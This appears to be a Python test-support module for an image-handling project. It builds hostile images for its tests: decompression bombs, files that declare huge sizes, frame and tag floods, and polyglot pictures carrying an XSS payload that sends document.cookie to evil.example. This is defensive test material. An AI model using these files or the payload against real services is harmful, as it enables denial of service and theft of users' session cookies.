"""Builders of files that mean harm: bombs, floods, and pictures that carry something else."""

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

from PIL import Image

from tests.unit.imaging.support.odd import png, png_chunk, tiff, with_chunks

PAYLOAD = b"<script>fetch('//evil.example/'+document.cookie)</script>"
_GIF_1_PX = b"!\xf9\x04\0\x0a\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0"


def file_of(image: Image.Image, image_format: str, **options: Any) -> bytes:
    """Return the file that Pillow writes."""
    buffer = BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def declaring_jpeg(width: int, height: int) -> bytes:
    """Return a sound JPEG of 700 bytes whose header declares any size."""
    data = file_of(Image.new("RGB", (16, 16), (90, 120, 30)), "JPEG")
    place = data.index(b"\xff\xc0") + 5
    return data[:place] + struct.pack(">HH", height, width) + data[place + 4 :]


def declaring_gif(width: int, height: int) -> bytes:
    """Return a GIF of one pixel on a canvas of any size."""
    return gif_of(1, width, height)


def gif_of(frames: int, width: int = 1, height: int = 1) -> bytes:
    """Return a GIF with many frames of one pixel, 0.1 s each."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + _GIF_1_PX * frames + b";"


def webp_of(frames: int) -> bytes:
    """Return a WebP with many frames of one pixel, 0.1 s each."""
    pixel = file_of(Image.new("RGB", (1, 1)), "WEBP", lossless=True)[12:]
    frame = bytes(12) + struct.pack("<I", 100)[:3] + b"\0" + pixel
    body = riff_chunk(b"VP8X", b"\x02" + bytes(9)) + riff_chunk(b"ANIM", bytes(6))
    return riff(body + riff_chunk(b"ANMF", frame) * frames)


def apng_of(frames: int) -> bytes:
    """Return an APNG with many frames of one pixel, 0.1 s each."""
    pixels = zlib.compress(b"\0\0\0\0")
    after, number = [], 1
    for _ in range(frames - 1):
        after.append((b"fcTL", _frame_control(number)))
        after.append((b"fdAT", struct.pack(">I", number + 1) + pixels))
        number += 2
    before = [(b"acTL", struct.pack(">II", frames, 0)), (b"fcTL", _frame_control(0))]
    return png((1, 1), [b"\0\0\0"], before=before, after=after)


def _frame_control(number: int) -> bytes:
    return struct.pack(">IIIIIHHBB", number, 1, 1, 0, 0, 1, 10, 0, 0)


def riff(body: bytes) -> bytes:
    """Return a WebP container around its chunks."""
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def riff_chunk(kind: bytes, body: bytes) -> bytes:
    """Return a chunk, padded to an even length."""
    return kind + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)


def declaring_webp(width: int, height: int) -> bytes:
    """Return a lossless WebP of some dozen bytes; the format needs no more for one colour."""
    data = file_of(Image.new("RGB", (16, 16), (90, 120, 30)), "WEBP", lossless=True)
    place = data.index(b"VP8L") + 9
    bits = int.from_bytes(data[place : place + 4], "little") >> 28 << 28
    bits |= (height - 1) << 14 | (width - 1)
    return data[:place] + struct.pack("<I", bits) + data[place + 4 :]


def declaring_iso(data: bytes, width: int, height: int) -> bytes:
    """Return an AVIF or HEIC whose properties declare another size."""
    place = data.index(b"ispe") + 8
    return data[:place] + struct.pack(">II", width, height) + data[place + 8 :]


def text_bomb(kind: bytes, megabytes: int) -> bytes:
    """Return a good PNG of one colour with a text chunk that unpacks to any size."""
    packed = zlib.compress(bytes(megabytes * 1024**2), 9)
    prefix = b"Comment\0\0" if kind == b"zTXt" else b"Comment\0\x01\0\0\0"
    return with_chunks(_small_png(), *[(kind, prefix + packed)] * 20)


def profile_bomb(megabytes: int) -> bytes:
    """Return a good PNG with a profile that unpacks to any size."""
    packed = zlib.compress(bytes(megabytes * 1024**2), 9)
    return with_chunks(_small_png(), (b"iCCP", b"evil\0\0" + packed))


def _small_png() -> bytes:
    return file_of(Image.new("RGB", (16, 16), (90, 120, 30)), "PNG")


def pixel_bomb(side: int) -> bytes:
    """Return a PNG of one colour, as well packed as can be: legal, if unkind."""
    row = b"\0" + bytes(3 * side)
    packing = zlib.compressobj(9)
    packed = b"".join(packing.compress(row) for _ in range(side)) + packing.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", packed), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*chunk) for chunk in chunks)


def scans_jpeg(side: int, scans: int) -> bytes:
    """Return a progressive JPEG that repeats its last scan."""
    data = file_of(Image.new("RGB", (side, side), (90, 120, 30)), "JPEG", progressive=True)
    start = data.rindex(b"\xff\xda")
    return data[:-2] + data[start:-2] * scans + data[-2:]


def tiff_declaring(width: int, height: int) -> bytes:
    """Return a TIFF whose strip is a few bytes and stands for any number of pixels."""
    return tiff((width, height), bytes(64), bits=(8, 8, 8), photometric=2)


def tiff_of_tags(count: int) -> bytes:
    """Return a TIFF with many tags that all point to the same large block."""
    more = [(40_000, 4, [0] * 50_000)]
    data = tiff((8, 8), bytes(192), bits=(8, 8, 8), photometric=2, more=more)
    entry_at = data.index(struct.pack("<HHI", 40_000, 4, 50_000))
    rest = data[entry_at + 2 : entry_at + 12]
    entries = b"".join(struct.pack("<H", 40_001 + number) + rest for number in range(count))
    (place,) = struct.unpack_from("<I", data, 4)
    (tags,) = struct.unpack_from("<H", data, place)
    head = data[:4] + struct.pack("<I", len(data)) + data[8:]
    old = data[place + 2 : place + 2 + 12 * tags]
    return head + struct.pack("<H", tags + count) + old + entries + bytes(4)


def archive() -> bytes:
    """Return a zip file with the payload, not packed."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as folder:
        folder.writestr("evil.html", PAYLOAD)
    return buffer.getvalue()


def carriers(image: Image.Image) -> dict[str, bytes]:
    """Return good pictures that carry the payload in every place that a format offers."""
    jpeg = file_of(image, "JPEG", comment=PAYLOAD)
    extra = b"\xff\xe9" + struct.pack(">H", len(PAYLOAD) + 2) + PAYLOAD
    still = file_of(image, "WEBP")[12:]
    width, height = (struct.pack("<I", side - 1)[:3] for side in image.size)
    extended = riff_chunk(b"VP8X", bytes(4) + width + height) + still
    return {
        "a zip after a JPEG": file_of(image, "JPEG") + archive(),
        "a script in a comment": jpeg,
        "a script in an application segment": jpeg[:2] + extra + jpeg[2:],
        "a zip after a PNG": file_of(image, "PNG") + archive(),
        "a private chunk of a PNG": with_chunks(file_of(image, "PNG"), (b"evIl", PAYLOAD)),
        "a text of a PNG": with_chunks(file_of(image, "PNG"), (b"tEXt", b"Title\0" + PAYLOAD)),
        "a damaged text of a PNG": with_chunks(file_of(image, "PNG"), (b"zTXt", PAYLOAD)),
        "a comment of a GIF": file_of(image, "GIF", comment=PAYLOAD),
        "a zip after a GIF": file_of(image, "GIF") + archive(),
        "an odd chunk of a WebP": riff(extended + riff_chunk(b"EVIL", PAYLOAD)),
        "a zip after a WebP": file_of(image, "WEBP") + archive(),
        "a description of a TIFF": file_of(image, "TIFF", description=PAYLOAD.decode()),
        "a zip after a TIFF": file_of(image, "TIFF") + archive(),
        "a zip after a BMP": file_of(image, "BMP") + archive(),
        "a zip after an AVIF": file_of(image, "AVIF") + archive(),
        "a free box of an AVIF": file_of(image, "AVIF")
        + struct.pack(">I4s", len(PAYLOAD) + 8, b"free")
        + PAYLOAD,
    }
